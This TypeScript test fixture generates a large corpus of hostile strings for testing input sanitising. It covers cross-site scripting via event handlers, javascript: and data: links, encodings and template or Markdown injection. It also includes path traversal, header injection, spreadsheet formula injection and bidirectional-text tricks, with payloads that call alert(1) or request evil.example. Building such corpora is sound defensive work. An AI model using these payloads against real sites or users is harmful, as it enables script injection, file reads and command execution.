/**
 * More than a thousand texts that try to run code or to send a request to another host, generated from families: tags
 * with handlers, schemes in every carrier, encodings, Markdown, templates, mutations, SVG and MathML, CSS, file names,
 * directions. Each calls `alert` or requests `evil.example`, which a test detects.
 */
import { hostileMarkup } from "./hostile-markup.fixture.ts";
import { hostilePayloads } from "../../src/writing/formats/hostile-payloads.fixture.ts";

const call = "alert(1)";
const host = "evil.example";

/** Elements that fire an event by themselves or on touch, with their events. */
const handlers = Object.entries({
  "img src=x": "error load click pointerover",
  "img srcset=x": "error loadstart",
  "image src=x": "error",
  svg: "load click begin",
  "svg viewBox=0": "resize wheel",
  body: "load pageshow hashchange popstate message storage focus resize scroll unload",
  "video src=x": "error loadstart canplay",
  "video controls": "click play volumechange",
  "audio src=x": "error loadstart",
  source: "error",
  "input autofocus": "focus blur input change keydown",
  "input type=image src=x": "error",
  "textarea autofocus": "focus beforeinput",
  "select autofocus": "focus change",
  "button autofocus": "focus click",
  "details open": "toggle click",
  "dialog open": "close cancel click",
  "div popover": "beforetoggle toggle",
  marquee: "start finish bounce",
  "iframe src=x": "load error",
  "object data=x": "error load",
  "embed src=x": "load",
  "link rel=stylesheet href=x": "load error",
  style: "load error",
  "script src=x": "error load",
  "a href=x tabindex=1": "click focus mouseover copy dragstart contextmenu",
  "p contenteditable": "input paste blur selectstart",
  "div style=animation:x": "animationstart animationend transitionend",
  "x-foo tabindex=1 autofocus": "focus focusin",
  "table background=x": "click mouseenter",
  form: "submit reset formdata",
  "math href=x": "click",
  "track default src=x": "error cuechange",
  canvas: "contextlost click",
  template: "load",
  meter: "auxclick",
}).flatMap(([start, events]) =>
  events
    .split(" ")
    .flatMap((event, index) => [
      `<${start} on${event}=${call}>`,
      `"><${start} on${event}="${call}" x="`,
      `<${start.toUpperCase()}/oN${event.toUpperCase()}\t=\n'${call}'//`,
      ["<x ", "<\u00A0", "</x><", "<!x><", "<?><", "<<"][index % 6] +
        `${start} on${event}=${call}//>`,
    ]),
);

const schemes = [
  `javascript:${call}`,
  `JAVASCRIPT:${call}`,
  `jAvAsCrIpT:${call}//`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  ` \u0001javascript:${call}`,
  `javascript&colon;${call}`,
  `javascript&#58;${call}`,
  `&#x6A;avascript:${call}`,
  `javascript:/*--></title></style></textarea></script>*/${call}`,
  `javascript://${host}/%0a${call}`,
  `javascript:void%20${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
  `vbscript:msgbox(1)`,
  `blob:https://${host}/1`,
  `filesystem:https://${host}/1`,
  `view-source:javascript:${call}`,
  `//${host}/x`,
  `\\\\${host}\\x`,
  `https:${host}/x`,
  `https://${host}/x`,
];

const carriers = [
  (address: string) => `<a href="${address}">x</a>`,
  (address: string) => `<a href='${address}' target=_self ping=https://${host}/p>x</a>`,
  (address: string) => `<area shape=default href="${address}">`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<object data="${address}"></object>`,
  (address: string) => `<embed src="${address}">`,
  (address: string) => `<form action="${address}"><button autofocus>x</button></form>`,
  (address: string) => `<button formaction="${address}" type=submit>x</button>`,
  (address: string) => `<img src="${address}" alt=x>`,
  (address: string) => `<link rel=preload as=image href="${address}">`,
  (address: string) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address: string) => `<svg><a xlink:href="${address}"><text y=20>x</text></a></svg>`,
  (address: string) => `<svg><image href="${address}"/></svg>`,
  (address: string) => `<math><mi xlink:href="${address}">x</mi></math>`,
  (address: string) => `<video poster="${address}" src="${address}"></video>`,
  (address: string) => `[x](${address})`,
  (address: string) => `[x](<${address}> "t")`,
  (address: string) => `![x](${address})`,
  (address: string) => `[x][r]\n\n[r]: ${address} 'x'`,
  (address: string) => `<${address}>`,
];

const bases = [
  `<script>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<svg/onload=${call}>`,
  `<a href="javascript:${call}">x</a>`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<img src=//${host}/e>`,
  `javascript:${call}`,
  `"onfocus=${call} autofocus x="`,
];

const units = (text: string, write: (code: number) => string) =>
  Array.from(text, (letter) => write(letter.codePointAt(0) ?? 0)).join("");

const encoders: ((text: string) => string)[] = [
  encodeURIComponent,
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&lt").replaceAll(">", "&gt"),
  (text) => text.replaceAll("<", "&amp;lt;").replaceAll(">", "&amp;gt;"),
  (text) => text.replaceAll("<", "&#60").replaceAll(">", "&#x3E;"),
  (text) => text.replaceAll("<", "&#x000003c").replaceAll("(", "&lpar;"),
  (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\u003e"),
  (text) => text.replaceAll("<", "\\x3c").replaceAll(">", "\\x3e"),
  (text) => text.replaceAll("<", "\uFF1C").replaceAll(">", "\uFF1E"),
  (text) => text.replaceAll("<", "\u2039").replaceAll(">", "\u203A"),
  (text) => text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  (text) => text.replaceAll("<", "\u00BC").replaceAll(">", "\u00BE"),
  (text) => text.replaceAll("s", "\u017F").replaceAll("i", "\u0131"),
  (text) => text.replaceAll("<", "<\u200B").replaceAll("o", "o\u00AD"),
  (text) => text.replaceAll("on", "o\u0000n".replace("\u0000", "\u0001")),
  (text) => `\uFEFF${text}`,
  (text) => `<?xml version="1.0" encoding="UTF-7"?>${text}`,
  (text) => Buffer.from(text).toString("base64"),
];

const encoded = bases.flatMap((base) => encoders.map((encode) => encode(base)));
const numbered = [
  units(bases[1] ?? "", (code) => `&#${code};`),
  units(bases[6] ?? "", (code) => `&#x${code.toString(16)}`),
  `<a href="${units(`javascript:${call}`, (code) => `&#${code};`)}">x</a>`,
  `<img src=x onerror="${units(call, (code) => `&#x${code.toString(16)};`)}">`,
];

const templates = [
  `{{constructor.constructor('${call}')()}}`,
  `{{$on.constructor('${call}')()}}`,
  `{{_c.constructor('${call}')()}}`,
  `<div ng-app ng-csp>{{$eval.constructor('${call}')()}}</div>`,
  `<div v-html="'<img src=x onerror=${call}>'"></div>`,
  `<p x-data x-init="${call}" x-html="1">x</p>`,
  `<div hx-get=//${host}/x hx-trigger=load hx-on::load=${call}>x</div>`,
  `<div data-controller=x data-action="load->x#y" data-turbo-frame=x>x</div>`,
  `\${${call}} #{${call}} <%= ${call} %> {%raw%}${call}{%endraw%}`,
  `{"__html":"<img src=x onerror=${call}>"}`,
  `{"dangerouslySetInnerHTML":{"__html":"<svg onload=${call}>"}}`,
  `{"$$typeof":"Symbol(react.element)","type":"script","props":{}}`,
  `__proto__[innerHTML]=<img src=x onerror=${call}>`,
  `';${call};//";${call};//\`;\${${call}};//--></script>`,
  `\`\`\`mermaid\ngraph TD;A["<img src=x onerror=${call}>"];click A href "javascript:${call}"\n\`\`\``,
  `$$\\href{javascript:${call}}{x}\\includegraphics{//${host}/x}$$`,
  `[x]: <javascript:${call}>\n[x]`,
  `**<img src=x onerror=${call}>**`,
  `| <svg onload=${call}> | b |\n|---|---|\n| [x](javascript:${call}) | d |`,
  `> <script>${call}</script>\n\n1. <img src=x onerror=${call}>`,
  `[^1]: <img src=x onerror=${call}>\n\n[^1]`,
  `# <script>${call}</script> {#x onclick=${call}}`,
  `[<img src=x onerror=${call}>](https://${host}/)`,
  `[x](https://${host}/ "onmouseover=${call}")`,
  `![" onerror="${call}](x)`,
  `~~~html\n</code></pre><script>${call}</script>\n~~~`,
];

const bases64 = ["report", "\u202Egnp.exe", "CON", "..", "~", "-rf"];
const fileNames = [
  ...[
    `<img src=x onerror=${call}>`,
    `"; filename="x.html`,
    `"\r\nContent-Type: text/html\r\n\r\n<script>${call}</script>`,
    `'; filename*=UTF-8''x.html`,
    `x\nSet-Cookie: pressroom=1`,
    `../../etc/passwd`,
    `..\\..\\windows\\system32\\x`,
    `x%0d%0aLocation: //${host}/`,
    `\u202Elmth.x`,
    `x\u2028y`,
    `=cmd|' /C calc'!A1`,
    `@SUM(1+1)*cmd|' /C calc'!A0`,
    `%2e%2e%2f`,
  ].flatMap((name) => [`${name}.html`, `${name}.svg`, name]),
  ...bases64.flatMap((name) => [`${name}.html`, `${name}\u2060.svg`]),
];

const marks = ["\u202E", "\u202D", "\u2066", "\u2067", "\u2068", "\u200F", "\u061C"];
const directions = marks.flatMap((mark) => [
  `${mark}<img src=x onerror=${call}>`,
  `<${mark}script>${call}</script>`,
  `https://example.org/${mark}elpmaxe.live//`,
  `${mark}>${[..."(1)trela=daolno gvs<"].join("")}`,
  `${mark.repeat(30)} text that runs the other way`,
]);

/** Each once, without what JSON or PostgreSQL cannot store (null characters, lone surrogates). */
export const hostileTexts: readonly string[] = [
  ...new Set([
    ...hostilePayloads,
    ...handlers,
    ...carriers.flatMap((carry) => schemes.map((scheme) => carry(scheme))),
    ...hostileMarkup,
    ...encoded,
    ...numbered,
    ...templates,
    ...fileNames,
    ...directions,
  ]),
].filter((text) => text.isWellFormed() && !text.includes("\0") && text.trim() !== "");

/** Link targets that a browser may open. */
export const hostileAddresses: readonly string[] = schemes;
